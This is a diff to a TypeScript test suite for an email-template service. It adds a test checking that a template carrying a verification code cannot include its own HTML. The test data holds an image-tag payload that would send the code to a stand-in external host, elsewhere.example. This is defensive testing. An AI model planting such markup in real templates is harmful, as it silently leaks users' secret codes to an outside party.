@@ -224,6 +224,16 @@ eachEngine('mail', (database) => {
     expect(must(await listTemplates(ports)(world.host)).every((one) => one.words === 'of the product')).toBe(true);
   });
 
+  it('security.md, Factors: a mail that holds a code or a link has no HTML of its own, through which the secret could be sent away', async () => {
+    const words = { subject: 'x', text: '{{code}}', html: '<img src="https://elsewhere.example/?{{code}}">' };
+    expect(await setTemplate(ports)({ ...world.host, template: 'enrolment_code', ...words })).toMatchObject({
+      code: 'template_malformed',
+      facts: { part: 'html' },
+    });
+    must(await setTemplate(ports)({ ...world.host, template: 'enrolment_code', ...words, html: null }));
+    must(await resetTemplate(ports)({ ...world.host, template: 'enrolment_code' }));
+  });
+
   it('every mail can be looked at beforehand, and leaves no value unfilled', async () => {
     for (const { template } of must(await listTemplates(ports)(world.host))) {
       const { subject, text, html } = must(await previewTemplate(ports)({ ...world.host, template, draft: null }));
